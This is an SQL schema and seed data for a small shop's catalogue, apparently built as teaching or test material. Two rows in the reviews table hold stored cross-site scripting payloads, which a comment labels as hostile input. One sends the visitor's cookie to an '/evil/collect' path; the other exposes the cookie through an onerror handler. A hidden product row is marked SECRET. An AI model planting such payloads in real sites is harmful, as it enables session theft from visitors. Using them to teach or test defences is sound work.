-- The shop's catalogue: four tables, each fact stored once.
-- Every table has a primary key (id): the one number that names a row for ever.

CREATE TABLE products (
    id          INTEGER PRIMARY KEY,
    slug        TEXT NOT NULL UNIQUE,          -- the product's part of the URL: /products/trail-runner
    name        TEXT NOT NULL,
    category    TEXT NOT NULL,
    price       REAL NOT NULL CHECK (price >= 0),
    stock       INTEGER NOT NULL CHECK (stock >= 0),
    published   INTEGER NOT NULL DEFAULT 1,    -- 0: not on the site yet
    description TEXT NOT NULL
);

CREATE TABLE customers (
    id    INTEGER PRIMARY KEY,
    name  TEXT NOT NULL,
    email TEXT NOT NULL UNIQUE
);

CREATE TABLE reviews (
    id          INTEGER PRIMARY KEY,
    product_id  INTEGER NOT NULL REFERENCES products(id),
    customer_id INTEGER NOT NULL REFERENCES customers(id),
    rating      INTEGER NOT NULL CHECK (rating BETWEEN 1 AND 5),
    body        TEXT NOT NULL
);

CREATE TABLE orders (
    id          INTEGER PRIMARY KEY,
    customer_id INTEGER NOT NULL REFERENCES customers(id),
    product_id  INTEGER NOT NULL REFERENCES products(id),
    quantity    INTEGER NOT NULL CHECK (quantity > 0),
    ordered_on  TEXT NOT NULL
);

INSERT INTO products VALUES
 (1, 'trail-runner', 'Trail Runner', 'shoes', 89.00, 12, 1, 'A light running shoe with a grippy sole for wet paths.'),
 (2, 'city-walker', 'City Walker', 'shoes', 75.00, 0, 1, 'A soft leather shoe for a day on your feet.'),
 (3, 'rain-shell', 'Rain Shell', 'jackets', 120.00, 5, 1, 'A waterproof jacket that packs into its own pocket.'),
 (4, 'merino-socks', 'Merino Socks', 'accessories', 14.00, 40, 1, 'Warm, soft socks that do not itch.'),
 (5, 'day-pack', 'Day Pack 20 L', 'bags', 55.00, 8, 1, 'A 20-litre backpack with a padded laptop sleeve.'),
 (6, 'summit-boot', 'Summit Boot', 'shoes', 160.00, 30, 0, 'SECRET: launches on 1 November with the winter campaign.');

INSERT INTO customers VALUES
 (1, 'Ana Silva', 'ana@example.com'),
 (2, 'Ben Okafor', 'ben@example.com'),
 (3, 'Chloe Martin', 'chloe@example.com'),
 (4, 'Dev Patel', 'dev@example.com'),
 (5, 'Emma Jones', 'emma@example.com'),
 (6, 'Femi Adeyemi', 'femi@example.com');

-- Two reviews are hostile: a visitor typed HTML with a script into the review form.
INSERT INTO reviews VALUES
 (1, 1, 1, 5, 'Comfortable from the first run. I wear them every weekend.'),
 (2, 1, 2, 4, 'Great grip on wet paths. Runs slightly small.'),
 (3, 1, 3, 5, 'Best shoes ever!<script>new Image().src = "/evil/collect?cookie=" + encodeURIComponent(document.cookie)</script>'),
 (4, 1, 1, 2, '<img src="/no-such-photo.jpg" onerror="document.title = ''Hacked: '' + document.cookie">'),
 (5, 3, 1, 5, 'Kept me dry on a <b>very</b> wet walk.'),
 (6, 3, 4, 3, 'Good jacket, but the hood is small.'),
 (7, 2, 2, 4, 'Smart and soft. I wish it came in blue.'),
 (8, 4, 5, 5, 'Warm and soft, as promised.');

INSERT INTO orders VALUES
 (1, 1, 1, 1, '2026-03-02'),
 (2, 1, 2, 1, '2026-03-09'),
 (3, 2, 1, 1, '2026-03-10'),
 (4, 3, 4, 3, '2026-03-11'),
 (5, 4, 3, 1, '2026-03-15'),
 (6, 5, 1, 1, '2026-03-18'),
 (7, 5, 1, 1, '2026-03-29'),
 (8, 6, 5, 1, '2026-04-01'),
 (9, 2, 4, 2, '2026-04-03'),
 (10, 3, 5, 1, '2026-04-07');
